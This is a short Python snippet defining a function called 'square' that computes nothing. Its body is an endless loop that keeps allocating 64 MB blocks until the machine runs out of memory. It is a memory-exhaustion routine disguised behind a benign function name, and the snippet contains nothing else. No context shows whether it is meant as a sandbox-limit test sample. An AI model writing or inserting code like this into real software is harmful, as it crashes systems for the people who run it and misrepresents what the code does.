def square(x):
    hog = []
    while True:
        hog.append(bytearray(64 * 1024 * 1024))
